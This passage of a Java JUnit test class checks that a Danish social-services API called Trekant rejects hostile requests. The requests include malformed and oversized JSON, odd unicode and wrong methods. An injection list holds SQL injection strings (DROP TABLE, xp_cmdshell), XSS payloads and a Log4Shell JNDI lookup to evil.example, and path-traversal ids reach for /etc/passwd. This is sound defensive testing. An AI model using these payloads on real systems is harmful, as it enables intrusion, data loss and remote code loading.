package dk.trekant.security;

import static org.assertj.core.api.Assertions.assertThat;

import java.nio.charset.StandardCharsets;
import java.time.LocalDate;
import java.util.ArrayList;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.UUID;
import java.util.function.Supplier;
import java.util.stream.Stream;

import org.junit.jupiter.api.BeforeAll;
import org.junit.jupiter.api.DynamicContainer;
import org.junit.jupiter.api.DynamicNode;
import org.junit.jupiter.api.DynamicTest;
import org.junit.jupiter.api.MethodOrderer;
import org.junit.jupiter.api.Order;
import org.junit.jupiter.api.Test;
import org.junit.jupiter.api.TestFactory;
import org.junit.jupiter.api.TestInstance;
import org.junit.jupiter.api.TestMethodOrder;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;
import org.springframework.jdbc.core.JdbcTemplate;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;

import dk.trekant.support.Http;
import dk.trekant.support.TrekantTest;

/**
 * A corpus of hostile requests against Trekant's own API. Each is answered 4xx as
 * {@code application/problem+json}, never 5xx, and stores nothing; input that is odd but valid
 * (script text in a description, say) may be accepted, and is then stored verbatim and shown to
 * no partner. The application is healthy afterwards.
 */
@TrekantTest
@TestInstance(TestInstance.Lifecycle.PER_CLASS)
@TestMethodOrder(MethodOrderer.OrderAnnotation.class)
class HostileInputTest {

    static final String NOTIFICATIONS = "/api/v1/section115-notifications";
    static final String BATCHES = "/api/v1/section115-notifications/batches";
    static final String CONCERNS = "/api/v1/concerns";
    static final String PARTNERS = "/api/admin/partners";
    static final String RELEASES = "/api/v1/release-notifications";
    static final String KRIMINALFORSORGEN = Http.bearer("demo-kriminalforsorgen");
    static final String POLICE = Http.bearer("demo-politi");
    static final String SCHOOL = Http.bearer("demo-skole");
    static final String ADMIN = Http.basic("admin", "admin");
    static final String JSON = "application/json";
    static final int MB = 1024 * 1024;

    static final List<String> TABLES = List.of("trekant_incident", "trekant_youth", "trekant_youth_case", "trekant_partner",
            "trekant_adult_referral", "trekant_adult_case", "ACT_HI_PROCINST");

    enum Expect {
        /** 4xx problem+json, nothing stored, the value not echoed. */
        REJECT,
        /** 201, one row more, the value stored verbatim and in no partner's answer. */
        ACCEPT,
        /** The weekly list answers per item (by design): 200, every item rejected, nothing stored. */
        BATCH_ALL_REJECTED,
        /**
         * Lenient parsing that Trekant's configuration does not yet forbid (see the report on issue 7:
         * scalar coercion, trailing tokens, duplicate keys, lenient UTF-8): rejected as REJECT, or
         * accepted with at most one row more. Never 5xx.
         */
        TOLERATED,
        /** Rejected by Tomcat before any filter runs: 400, Tomcat's own page without stack trace or version. */
        CONNECTOR,
        /** As REJECT, or the server answers early and closes the connection while a huge body is still being sent. */
        REJECT_OR_CLOSED
    }

    /**
     * @param stored for ACCEPT: where the hostile value must be found verbatim ({@code incident.description},
     *               {@code youth.first_name}, {@code partner.name}, ...), and the value
     */
    record Case(String name, String method, String path, String authorization, String contentType, Supplier<byte[]> body,
            Map<String, String> headers, Expect expect, String storedColumn, String storedValue, String echo, int status) {

        Case(String name, String method, String path, String authorization, String contentType, Supplier<byte[]> body,
                Map<String, String> headers, Expect expect, String storedColumn, String storedValue, String echo) {
            this(name, method, path, authorization, contentType, body, headers, expect, storedColumn, storedValue, echo, 0);
        }

        /** The exact 4xx status expected (0: any 4xx). */
        Case status(int expected) {
            return new Case(name, method, path, authorization, contentType, body, headers, expect, storedColumn, storedValue,
                    echo, expected);
        }

        Case expect(Expect other) {
            return new Case(name, method, path, authorization, contentType, body, headers, other, storedColumn, storedValue,
                    echo, status);
        }

        static Case reject(String name, String method, String path, String authorization, String contentType, String body) {
            return new Case(name, method, path, authorization, contentType, utf8(body), Map.of(), Expect.REJECT, null, null, null);
        }

        Case echo(String value) {
            return new Case(name, method, path, authorization, contentType, body, headers, expect, storedColumn, storedValue, value,
                    status);
        }

        Case headers(Map<String, String> more) {
            return new Case(name, method, path, authorization, contentType, body, more, expect, storedColumn, storedValue, echo,
                    status);
        }
    }

    static Supplier<byte[]> utf8(String body) {
        return body == null ? () -> null : () -> body.getBytes(StandardCharsets.UTF_8);
    }

    @LocalServerPort
    int port;
    @Autowired
    JdbcTemplate jdbc;

    static final ObjectMapper json = new ObjectMapper();

    String policeNotification;
    String schoolConcern;
    final List<String> acceptedPayloads = new ArrayList<>();
    final List<String> acceptedNotifications = new ArrayList<>();

    @BeforeAll
    void ownSubmissions() throws Exception {
        Client.Response sent = new Client(port).postJson(NOTIFICATIONS, POLICE, Bodies.notification());
        assertThat(sent.status()).as(sent.toString()).isEqualTo(201);
        policeNotification = json.readTree(sent.body()).get("id").asText();
        Client.Response concern = new Client(port).postJson(CONCERNS, SCHOOL, Bodies.concern());
        assertThat(concern.status()).as(concern.toString()).isEqualTo(201);
        schoolConcern = json.readTree(concern.body()).get("id").asText();
    }

    // ---------------------------------------------------------------- the endpoints and their fields

    /** An endpoint taking a JSON body: who may call it, a valid body, and its fields. */
    record Target(String label, String path, String authorization, Supplier<String> valid, List<Field> fields) {
    }

    /** A field by its JSON path; {@code column} is where a text field is stored, {@code rule} what the API demands of it. */
    record Field(String path, String column, Rule rule) {
    }

    enum Rule {
        /** Required, any type but text. */
        REQUIRED,
        /** Optional, not text. */
        OPTIONAL,
        /** Required text with a strict pattern (references, partner names, codes). */
        STRICT_TEXT,
        /** Optional free text. */
        FREE_TEXT,
        /** Required free text. */
        REQUIRED_FREE_TEXT,
        /** The CPR number. */
        CPR
    }

    static final Target NOTIFICATION = new Target("§115 notification", NOTIFICATIONS, POLICE, Bodies::notification, List.of(
            new Field("reference", "incident.partner_reference", Rule.STRICT_TEXT),
            new Field("occurredAt", null, Rule.REQUIRED),
            new Field("place", "incident.place", Rule.FREE_TEXT),
            new Field("offenceCategory", null, Rule.REQUIRED),
            new Field("role", null, Rule.REQUIRED),
            new Field("description", "incident.description", Rule.FREE_TEXT),
            new Field("youth", null, Rule.REQUIRED),
            new Field("knownToSocialServices", null, Rule.OPTIONAL),
            new Field("youth.cpr", null, Rule.CPR),
            new Field("youth.firstName", "youth.first_name", Rule.FREE_TEXT),
            new Field("youth.lastName", "youth.last_name", Rule.FREE_TEXT),
            new Field("youth.school", "youth.school", Rule.FREE_TEXT)));

    static final Target CONCERN = new Target("concern", CONCERNS, SCHOOL, Bodies::concern, List.of(
            new Field("reference", "incident.partner_reference", Rule.STRICT_TEXT),
            new Field("observedAt", null, Rule.REQUIRED),
            new Field("description", "incident.description", Rule.REQUIRED_FREE_TEXT),
            new Field("category", null, Rule.OPTIONAL),
            new Field("youth", null, Rule.REQUIRED),
            new Field("knownToSocialServices", null, Rule.OPTIONAL),
            new Field("youth.cpr", null, Rule.CPR),
            new Field("youth.firstName", "youth.first_name", Rule.FREE_TEXT),
            new Field("youth.lastName", "youth.last_name", Rule.FREE_TEXT),
            new Field("youth.school", "youth.school", Rule.FREE_TEXT)));

    static final Target RELEASE = new Target("release notice", RELEASES, KRIMINALFORSORGEN, Bodies::releaseNotification, List.of(
            new Field("reference", "adult_referral.partner_reference", Rule.STRICT_TEXT),
            new Field("expectedReleaseDate", null, Rule.REQUIRED),
            new Field("institutionKind", null, Rule.REQUIRED),
            new Field("institutionName", "adult_referral.institution_name", Rule.REQUIRED_FREE_TEXT),
            new Field("reasonCategory", null, Rule.REQUIRED),
            new Field("consent", null, Rule.REQUIRED),
            new Field("consent.given", null, Rule.REQUIRED),
            new Field("consent.recordedOn", null, Rule.REQUIRED),
            new Field("description", "adult_referral.description", Rule.FREE_TEXT),
            new Field("person", null, Rule.REQUIRED),
            new Field("person.cpr", null, Rule.CPR),
            new Field("person.firstName", "youth.first_name", Rule.REQUIRED_FREE_TEXT),
            new Field("person.lastName", "youth.last_name", Rule.REQUIRED_FREE_TEXT)));

    static final Target PARTNER = new Target("partner", PARTNERS, ADMIN, Bodies::partner, List.of(
            new Field("name", "partner.name", Rule.STRICT_TEXT),
            new Field("kind", null, Rule.REQUIRED),
            new Field("municipalityCode", null, Rule.STRICT_TEXT)));

    static final Target BATCH = new Target("weekly list", BATCHES, POLICE, Bodies::batch, List.of(
            new Field("items", null, Rule.REQUIRED)));

    /** The valid body with one field replaced by raw JSON text ({@code null} removes the field). */
    static String with(Target target, String fieldPath, String rawJson) {
        try {
            ObjectNode root = (ObjectNode) json.readTree(target.valid().get());
            String[] parts = fieldPath.split("\\.");
            ObjectNode parent = root;
            for (int i = 0; i < parts.length - 1; i++) {
                parent = (ObjectNode) parent.get(parts[i]);
            }
            String marker = "__HOSTILE_" + UUID.randomUUID() + "__";
            parent.put(parts[parts.length - 1], marker);
            return json.writeValueAsString(root).replace("\"" + marker + "\"", rawJson);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static String jsonString(String value) {
        try {
            return json.writeValueAsString(value);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static String decode(String rawJsonString) {
        try {
            return json.readValue(rawJsonString, String.class);
        } catch (Exception e) {
            throw new IllegalStateException(e);
        }
    }

    static Case field(Target target, Field field, String label, String rawJson, Expect expect, String storedValue) {
        String name = target.label() + " " + field.path() + ": " + label;
        return new Case(name, "POST", target.path(), target.authorization(), JSON, () -> with(target, field.path(), rawJson)
                .getBytes(StandardCharsets.UTF_8), Map.of(), expect, expect == Expect.ACCEPT ? field.column() : null,
                storedValue, null);
    }

    // ---------------------------------------------------------------- the corpus

    static List<DynamicContainer> corpusGroups;

    Map<String, List<Case>> corpus() {
        Map<String, List<Case>> groups = new LinkedHashMap<>();
        groups.put("truncated JSON", truncated());
        groups.put("malformed JSON", malformed());
        groups.put("wrong JSON types", wrongTypes());
        groups.put("null in each field", nulls());
        groups.put("huge strings and arrays", huge());
        groups.put("deeply nested JSON", nested());
        groups.put("unicode edge cases", unicode());
        groups.put("SQL and script injection", injection());
        groups.put("path traversal and garbage ids", ids());
        groups.put("wrong content types", contentTypes());
        groups.put("wrong methods", methods());
        groups.put("oversized bodies", oversized());
        groups.put("hostile credentials", credentials());
        return groups;
    }

    List<Case> truncated() {
        List<Case> cases = new ArrayList<>();
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER, BATCH)) {
            String valid = target.valid().get().strip();
            int positions = target == PARTNER ? 12 : 20;
            for (int i = 0; i < positions; i++) {
                int at = (int) ((long) valid.length() * i / positions);
                String body = valid.substring(0, at);
                cases.add(Case.reject(target.label() + " cut after " + at + " of " + valid.length() + " characters", "POST",
                        target.path(), target.authorization(), JSON, body));
            }
        }
        return cases;
    }

    List<Case> malformed() {
        List<Case> cases = new ArrayList<>();
        String valid = Bodies.notification();
        Map<String, String> bodies = new LinkedHashMap<>();
        bodies.put("lone open brace", "{");
        bodies.put("lone close brace", "}");
        bodies.put("empty object", "{}");
        bodies.put("empty array", "[]");
        bodies.put("array of the body", "[" + valid + "]");
        bodies.put("null literal", "null");
        bodies.put("string literal", "\"reference\"");
        bodies.put("number literal", "42");
        bodies.put("boolean literal", "true");
        bodies.put("missing value", "{\"reference\":}");
        bodies.put("lone comma", "{,}");
        bodies.put("single quotes", valid.replace('"', '\''));
        bodies.put("unquoted keys", valid.replace("\"reference\":", "reference:"));
        bodies.put("trailing comma", valid.substring(0, valid.length() - 1) + ",}");
        bodies.put("comment", "/* hej */" + valid);
        bodies.put("NaN as a value", valid.replace("false}", "NaN}"));
        bodies.put("unterminated string", "{\"reference\":\"abc");
        bodies.put("control character in a string", valid.replace("Slagsmål", "Slags\u0001mål"));
        bodies.put("two bodies", valid + valid);
        bodies.put("trailing garbage", valid + "}}]]garbage");
        bodies.put("duplicate key", valid.replace("{\"reference\":", "{\"reference\":\"FIRST-REF\",\"reference\":"));
        bodies.put("unknown field", valid.replace("{\"reference\":", "{\"isAdmin\":true,\"reference\":"));
        bodies.put("whitespace only", "   \n\t  ");
        bodies.put("binary garbage", "\u0000\u0001\u0002\u00ff\ufffe");
        List<String> lenient = List.of();
        for (Map.Entry<String, String> body : bodies.entrySet()) {
            Case c = Case.reject("§115 notification: " + body.getKey(), "POST", NOTIFICATIONS, POLICE, JSON, body.getValue());
            cases.add(lenient.contains(body.getKey()) ? c.expect(Expect.TOLERATED) : c);
        }
        for (String body : List.of("{", "null", "[]", "{\"items\":}", "{\"items\":[1,}")) {
            cases.add(Case.reject("weekly list: " + body, "POST", BATCHES, POLICE, JSON, body));
        }
        for (String body : List.of("{", "null", "[]")) {
            cases.add(Case.reject("partner: " + body, "POST", PARTNERS, ADMIN, JSON, body));
        }
        cases.add(Case.reject("partner: trailing garbage", "POST", PARTNERS, ADMIN, JSON, Bodies.partner() + "garbage"));
        return cases;
    }

    List<Case> wrongTypes() {
        List<Case> cases = new ArrayList<>();
        Map<String, String> values = new LinkedHashMap<>();
        values.put("a number", "12345");
        values.put("a boolean", "true");
        values.put("an object", "{\"a\":1}");
        values.put("an array", "[\"a\",\"b\"]");
        values.put("a string", "\"not what is expected\"");
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER)) {
            for (Field field : target.fields()) {
                for (Map.Entry<String, String> value : values.entrySet()) {
                    boolean textField = field.column() != null || field.rule() == Rule.CPR || field.rule() == Rule.STRICT_TEXT;
                    if (textField && value.getKey().equals("a string")) {
                        continue;
                    }
                    boolean scalar = value.getKey().equals("a number") || value.getKey().equals("a boolean");
                    boolean date = field.path().endsWith("At");
                    boolean flag = field.path().equals("knownToSocialServices") || field.path().equals("consent.given");
                    Expect expect = Expect.REJECT;
                    if (flag && value.getKey().equals("a boolean")) {
                        expect = Expect.ACCEPT; // the right type
                    }
                    cases.add(field(target, field, value.getKey(), value.getValue(), expect, null));
                }
            }
        }
        for (Map.Entry<String, String> value : values.entrySet()) {
            Case c = Case.reject("weekly list items: " + value.getKey(), "POST", BATCHES, POLICE, JSON,
                    "{\"items\":" + value.getValue() + "}");
            cases.add(value.getKey().equals("an array") ? c.expect(Expect.BATCH_ALL_REJECTED) : c);
        }
        return cases;
    }

    List<Case> nulls() {
        List<Case> cases = new ArrayList<>();
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER, BATCH)) {
            for (Field field : target.fields()) {
                boolean optional = field.rule() == Rule.OPTIONAL || field.rule() == Rule.FREE_TEXT
                        || field.path().equals("municipalityCode");
                Case c = field(target, field, "null", "null", optional ? Expect.ACCEPT : Expect.REJECT, null);
                cases.add(optional ? new Case(c.name(), c.method(), c.path(), c.authorization(), c.contentType(), c.body(),
                        c.headers(), Expect.ACCEPT, field.column(), null, null) : c);
            }
        }
        return cases;
    }

    List<Case> huge() {
        List<Case> cases = new ArrayList<>();
        String megabyte = "\"" + "x".repeat(MB) + "\"";
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER)) {
            for (Field field : target.fields()) {
                if (field.column() != null || field.rule() == Rule.CPR || field.rule() == Rule.STRICT_TEXT) {
                    String value = field.rule() == Rule.CPR ? "\"" + "1".repeat(MB) + "\"" : megabyte;
                    cases.add(field(target, field, "1 MB string", value, Expect.REJECT, null));
                }
            }
        }
        cases.add(field(NOTIFICATION, NOTIFICATION.fields().get(5), "an array of 100,000 strings",
                "[" + String.join(",", java.util.Collections.nCopies(100_000, "\"x\"")) + "]", Expect.REJECT, null));
        cases.add(Case.reject("weekly list of 5,001 empty items", "POST", BATCHES, POLICE, JSON,
                "{\"items\":[" + String.join(",", java.util.Collections.nCopies(5_001, "{}")) + "]}").status(413));
        cases.add(Case.reject("weekly list of 5,001 valid items", "POST", BATCHES, POLICE, JSON,
                "{\"items\":[" + String.join(",", java.util.Collections.nCopies(5_001, Bodies.notification())) + "]}").status(413));
        cases.add(Case.reject("weekly list of 100,000 nulls", "POST", BATCHES, POLICE, JSON,
                "{\"items\":[" + String.join(",", java.util.Collections.nCopies(100_000, "null")) + "]}").status(413));
        cases.add(new Case("weekly list of items that are nested arrays", "POST", BATCHES, POLICE, JSON,
                utf8("{\"items\":[[[[1]]],[[]],[[" + Bodies.notification() + "]]]}"), Map.of(), Expect.BATCH_ALL_REJECTED,
                null, null, null));
        cases.add(new Case("weekly list of 1,000 invalid items", "POST", BATCHES, POLICE, JSON,
                utf8("{\"items\":[" + String.join(",", java.util.Collections.nCopies(1_000,
                        Bodies.notification("bad reference!", Bodies.cpr()))) + "]}"),
                Map.of(), Expect.BATCH_ALL_REJECTED, null, null, null));
        cases.add(Case.reject("a number of 100,000 digits", "POST", NOTIFICATIONS, POLICE, JSON,
                with(NOTIFICATION, "occurredAt", "1" + "0".repeat(100_000))));
        cases.add(Case.reject("a number with a huge exponent", "POST", NOTIFICATIONS, POLICE, JSON,
                with(NOTIFICATION, "occurredAt", "1e1000000000")));
        cases.add(Case.reject("a field name of 1 MB", "POST", NOTIFICATIONS, POLICE, JSON,
                with(NOTIFICATION, "place", "\"x\",\"" + "n".repeat(MB) + "\":1")));
        cases.add(Case.reject("100,000 unknown fields", "POST", NOTIFICATIONS, POLICE, JSON,
                with(NOTIFICATION, "place", "\"x\"" + ",\"f%d\":1".repeat(1).formatted(0)
                        + String.join("", java.util.stream.IntStream.range(1, 100_000).mapToObj(i -> ",\"f" + i + "\":1").toList()))));
        return cases;
    }

    List<Case> nested() {
        List<Case> cases = new ArrayList<>();
        int depth = 10_000;
        String objects = "{\"a\":".repeat(depth) + "1" + "}".repeat(depth);
        String arrays = "[".repeat(depth) + "]".repeat(depth);
        cases.add(Case.reject("§115 notification: the body nested 10,000 objects deep", "POST", NOTIFICATIONS, POLICE, JSON, objects));
        cases.add(Case.reject("§115 notification: the body nested 10,000 arrays deep", "POST", NOTIFICATIONS, POLICE, JSON, arrays));
        cases.add(field(NOTIFICATION, NOTIFICATION.fields().get(5), "10,000 objects deep", objects, Expect.REJECT, null));
        cases.add(field(NOTIFICATION, NOTIFICATION.fields().get(6), "10,000 objects deep", objects, Expect.REJECT, null));
        cases.add(field(NOTIFICATION, NOTIFICATION.fields().get(0), "10,000 arrays deep", arrays, Expect.REJECT, null));
        cases.add(Case.reject("§115 notification: an unknown field 10,000 deep", "POST", NOTIFICATIONS, POLICE, JSON,
                with(NOTIFICATION, "place", "\"x\",\"deep\":" + arrays)));
        cases.add(Case.reject("§115 notification: unclosed 10,000 deep", "POST", NOTIFICATIONS, POLICE, JSON, "[".repeat(depth)));
        cases.add(Case.reject("weekly list: items 10,000 arrays deep", "POST", BATCHES, POLICE, JSON, "{\"items\":" + arrays + "}"));
        cases.add(Case.reject("weekly list: an item 10,000 objects deep", "POST", BATCHES, POLICE, JSON,
                "{\"items\":[" + objects + "]}"));
        cases.add(new Case("weekly list: an item 900 objects deep (under the parser's limit)", "POST", BATCHES, POLICE, JSON,
                utf8("{\"items\":[" + "{\"a\":".repeat(900) + "1" + "}".repeat(900) + "]}"), Map.of(),
                Expect.BATCH_ALL_REJECTED, null, null, null));
        cases.add(field(CONCERN, CONCERN.fields().get(2), "10,000 arrays deep", arrays, Expect.REJECT, null));
        cases.add(Case.reject("concern: the body nested 10,000 objects deep", "POST", CONCERNS, SCHOOL, JSON, objects));
        cases.add(field(PARTNER, PARTNER.fields().get(0), "10,000 objects deep", objects, Expect.REJECT, null));
        cases.add(Case.reject("partner: the body nested 10,000 arrays deep", "POST", PARTNERS, ADMIN, JSON, arrays));
        return cases;
    }

    /** Unicode edge cases, as JSON text (escapes where a raw character cannot travel in UTF-8). */
    static final Map<String, String> UNICODE = new LinkedHashMap<>();
    static {
        UNICODE.put("NUL", "\"Anna\\u0000X\"");
        UNICODE.put("lone high surrogate", "\"Anna\\ud800X\"");
        UNICODE.put("lone low surrogate", "\"Anna\\udc00X\"");
        UNICODE.put("right-to-left override", "\"Anna\\u202eX\"");
        UNICODE.put("emoji", "\"Anna 😀🧒🏽X\"");
        UNICODE.put("combining characters", "\"Anne\u0301\u0301\u0301\u0301X\"");
        UNICODE.put("byte order mark", "\"\ufeffAnnaX\"");
        UNICODE.put("zero-width joiner and non-characters", "\"An\\u200dna\\uffffX\"");
        UNICODE.put("escape and bell", "\"Anna\\u001b[31m\\u0007X\"");
    }

    static final List<String> NOT_PLAIN = List.of("NUL", "lone high surrogate", "lone low surrogate", "escape and bell");

    List<Case> unicode() {
        List<Case> cases = new ArrayList<>();
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER)) {
            for (Field field : target.fields()) {
                if (field.column() == null) {
                    continue;
                }
                for (Map.Entry<String, String> value : UNICODE.entrySet()) {
                    // free text may hold any character a person can write; control characters and broken
                    // surrogates are refused (@PlainText: PostgreSQL cannot even store NUL)
                    Expect expect = field.rule() == Rule.STRICT_TEXT || NOT_PLAIN.contains(value.getKey())
                            ? Expect.REJECT : Expect.ACCEPT;
                    cases.add(field(target, field, value.getKey(), value.getValue(), expect, decode(value.getValue())));
                }
            }
        }
        for (Map.Entry<String, byte[]> bad : Map.of(
                "byte 0xFF", new byte[] {(byte) 0xff},
                "truncated sequence 0xC3 0x28", new byte[] {(byte) 0xc3, 0x28},
                "overlong slash 0xC0 0xAF", new byte[] {(byte) 0xc0, (byte) 0xaf},
                "encoded surrogate 0xED 0xA0 0x80", new byte[] {(byte) 0xed, (byte) 0xa0, (byte) 0x80}).entrySet()) {
            String valid = Bodies.notification();
            int at = valid.indexOf("Slagsmål");
            byte[] head = valid.substring(0, at).getBytes(StandardCharsets.UTF_8);
            byte[] tail = valid.substring(at).getBytes(StandardCharsets.UTF_8);
            byte[] body = new byte[head.length + bad.getValue().length + tail.length];
            System.arraycopy(head, 0, body, 0, head.length);
            System.arraycopy(bad.getValue(), 0, body, head.length, bad.getValue().length);
            System.arraycopy(tail, 0, body, head.length + bad.getValue().length, tail.length);
            // Jackson decodes overlong forms and encoded surrogates without complaint (see the report)
            Expect expect = bad.getKey().startsWith("overlong") ? Expect.TOLERATED : Expect.REJECT;
            cases.add(new Case("§115 notification description: invalid UTF-8, " + bad.getKey(), "POST", NOTIFICATIONS, POLICE,
                    JSON, () -> body, Map.of(), expect, null, null, null));
        }
        return cases;
    }

    static final List<String> INJECTIONS = List.of(
            "' OR '1'='1",
            "'; DROP TABLE trekant_incident; --",
            "\" OR \"\"=\"",
            "1); SELECT pg_sleep(10); --",
            "<script>alert(1)</script>",
            "\"><img src=x onerror=alert(1)>",
            "${7*7}",
            "#{7*7}",
            "${jndi:ldap://evil.example/a}",
            "{{7*7}}",
            "javascript:alert(1)",
            "\\'; EXEC xp_cmdshell('dir'); --");

    List<Case> injection() {
        List<Case> cases = new ArrayList<>();
        for (Target target : List.of(NOTIFICATION, CONCERN, RELEASE, PARTNER)) {
            for (Field field : target.fields()) {
                if (field.column() == null && field.rule() != Rule.CPR && field.rule() != Rule.STRICT_TEXT) {
                    continue;
                }
                for (String injection : INJECTIONS) {
                    String value = field.rule() == Rule.CPR ? "120313-4001" + injection : injection;
                    Expect expect = field.column() == null || field.rule() == Rule.STRICT_TEXT ? Expect.REJECT : Expect.ACCEPT;
                    cases.add(field(target, field, injection, jsonString(value), expect, value).echo(injection));
                }
            }
        }
        return cases;
    }

    List<Case> ids() {
        List<Case> cases = new ArrayList<>();
        List<String> ids = List.of("../../etc/passwd", "..%2F..%2Fetc%2Fpasswd", "%2e%2e/%2e%2e/etc/passwd", "%2e%2e%2f%2e%2e%2f",
                "..;/..;/engine-rest/user", "%252e%252e%252f", "..%5C..%5Cwindows", "%00", "abc%00def", "a".repeat(2_000),
                "b".repeat(100_000), "123", "null", "undefined", "-1", "%27%20OR%20%271%27%3D%271", "%3Cscript%3E",
                "%C3%A6%C3%B8%C3%A5", "%7B" + UUID.randomUUID() + "%7D", UUID.randomUUID() + "%20", "00000000-0000-0000-0000-000000000000",
                "%20", "~", "*", ".", "..");
        for (String id : ids) {
            String shown = id.length() > 40 ? id.substring(0, 10) + "… (" + id.length() + " characters)" : id;
            // Tomcat refuses encoded slashes and backslashes, NUL and over-long request lines itself
            boolean connector = id.contains("%2F") || id.contains("%2f") || id.contains("%5C") || id.contains("%00")
                    || id.length() > 8_000;
            int status = id.contains("/") || id.startsWith(".") || id.contains("%25") ? 0 // leaves the API or the firewall
                    : id.startsWith("00000000") || id.endsWith("%20") && id.length() > 10 ? 404 : 400;
            for (Case c : List.of(
                    Case.reject("GET §115 notification id " + shown, "GET", NOTIFICATIONS + "/" + id, POLICE, null, null),
                    Case.reject("GET concern id " + shown, "GET", CONCERNS + "/" + id, SCHOOL, null, null))) {
                cases.add(connector ? c.expect(Expect.CONNECTOR) : c.status(status));
            }
        }
        return cases;
    }

    List<Case> contentTypes() {
        List<Case> cases = new ArrayList<>();
        Map<String, String> types = new LinkedHashMap<>();
        types.put("text/plain", null);
        types.put("application/x-www-form-urlencoded", "reference=X-1&occurredAt=2024-01-01T00:00:00Z&offenceCategory=VOLD");
        types.put("application/xml", "<notification><reference>X</reference></notification>");
        types.put("multipart/form-data; boundary=xyz", "--xyz\r\nContent-Disposition: form-data; name=\"reference\"\r\n\r\nX\r\n--xyz--");
        types.put("multipart/form-data (no boundary)", "--xyz\r\nContent-Disposition: form-data; name=\"reference\"\r\n\r\nX\r\n--xyz--");
        types.put("multipart/mixed", null);
        types.put("application/json-patch+json", null);
        types.put("application/vnd.foo+json", null);
        types.put("application/javascript", null);
        types.put("image/png", null);
        types.put("no content type", null);
        for (Target target : List.of(NOTIFICATION, CONCERN, BATCH, PARTNER)) {
            for (Map.Entry<String, String> type : types.entrySet()) {
                String body = type.getValue() == null ? target.valid().get() : type.getValue();
                String contentType = type.getKey().equals("no content type") ? null : type.getKey().replace(" (no boundary)", "");
                cases.add(Case.reject(target.label() + " as " + type.getKey(), "POST", target.path(), target.authorization(),
                        contentType, body).status(415));
            }
            if (target != BATCH) {
                // Jackson detects the encoding from the bytes (UTF-8) and ignores the declared charset
                cases.add(Case.reject(target.label() + " as JSON in UTF-16 declared", "POST", target.path(),
                        target.authorization(), "application/json; charset=UTF-16", target.valid().get()).expect(Expect.TOLERATED));
            }
        }
        cases.add(Case.reject("§115 notification asking for XML (with a bad body)", "POST", NOTIFICATIONS, POLICE, JSON, "{")
                .headers(Map.of("Accept", "application/xml")));
        cases.add(Case.reject("§115 notification asking for HTML (with a bad body)", "POST", NOTIFICATIONS, POLICE, JSON, "{")
                .headers(Map.of("Accept", "text/html")));
        return cases;
    }

    List<Case> methods() {
        List<Case> cases = new ArrayList<>();
        Map<String, String> paths = new LinkedHashMap<>();
        paths.put(NOTIFICATIONS, POLICE);
        paths.put(NOTIFICATIONS + "/{POLICE}", POLICE);
        paths.put(BATCHES, POLICE);
        paths.put(CONCERNS, SCHOOL);
        paths.put(CONCERNS + "/{SCHOOL}", SCHOOL);
        paths.put(PARTNERS, ADMIN);
        paths.put("/api/v1/partner", POLICE);
        for (Map.Entry<String, String> path : paths.entrySet()) {
            for (String method : List.of("PUT", "DELETE", "PATCH")) {
                cases.add(Case.reject(method + " " + path.getKey(), method, path.getKey(), path.getValue(), JSON, "{}").status(405));
            }
        }
        cases.add(Case.reject("GET " + NOTIFICATIONS + " (no listing)", "GET", NOTIFICATIONS, POLICE, null, null).status(405));
        cases.add(Case.reject("GET " + CONCERNS + " (no listing)", "GET", CONCERNS, SCHOOL, null, null).status(405));
        // GET /batches is GET /{id} with the id "batches": not a UUID
        cases.add(Case.reject("GET " + BATCHES, "GET", BATCHES, POLICE, null, null).status(400));
        cases.add(Case.reject("POST to an id", "POST", NOTIFICATIONS + "/{POLICE}", POLICE, JSON, Bodies.notification()).status(405));
        cases.add(Case.reject("GET an unknown operation", "GET", "/api/v1/section115-notifications-old", POLICE, null, null).status(404));
        cases.add(Case.reject("GET an unknown admin operation", "GET", "/api/admin/secrets", ADMIN, null, null).status(404));
        cases.add(Case.reject("TRACE " + NOTIFICATIONS, "TRACE", NOTIFICATIONS, POLICE, null, null));
        cases.add(Case.reject("PROPFIND " + NOTIFICATIONS, "PROPFIND", NOTIFICATIONS, POLICE, null, null));
        return cases;
    }

    List<Case> oversized() {
        List<Case> cases = new ArrayList<>();
        int twenty = 20 * MB;
        cases.add(new Case("§115 notification with a 20 MB description", "POST", NOTIFICATIONS, POLICE, JSON,
                () -> with(NOTIFICATION, "description", "\"" + "x".repeat(twenty) + "\"").getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.REJECT, null, null, null));
        cases.add(new Case("§115 notification: 20 MB of non-JSON", "POST", NOTIFICATIONS, POLICE, JSON,
                () -> "a".repeat(twenty).getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECT_OR_CLOSED, null, null, null));
        cases.add(new Case("§115 notification: 20 MB of whitespace before the body", "POST", NOTIFICATIONS, POLICE, JSON,
                () -> (" ".repeat(twenty) + "{").getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECT, null, null, null));
        cases.add(new Case("concern: 20 MB in an unknown field", "POST", CONCERNS, SCHOOL, JSON,
                () -> ("{\"junk\":\"" + "x".repeat(twenty) + "\"}").getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECT,
                null, null, null));
        cases.add(new Case("partner: 20 MB name", "POST", PARTNERS, ADMIN, JSON,
                () -> ("{\"name\":\"" + "x".repeat(twenty) + "\",\"kind\":\"SCHOOL\"}").getBytes(StandardCharsets.UTF_8),
                Map.of(), Expect.REJECT, null, null, null));
        cases.add(new Case("§115 notification: 20 MB as text/plain", "POST", NOTIFICATIONS, POLICE, "text/plain",
                () -> "a".repeat(twenty).getBytes(StandardCharsets.UTF_8), Map.of(), Expect.REJECT_OR_CLOSED, null, null, null));
        cases.add(new Case("weekly list: 5,001 items of 4 KB (20 MB)", "POST", BATCHES, POLICE, JSON,
                () -> ("{\"items\":[" + String.join(",", java.util.Collections.nCopies(5_001,
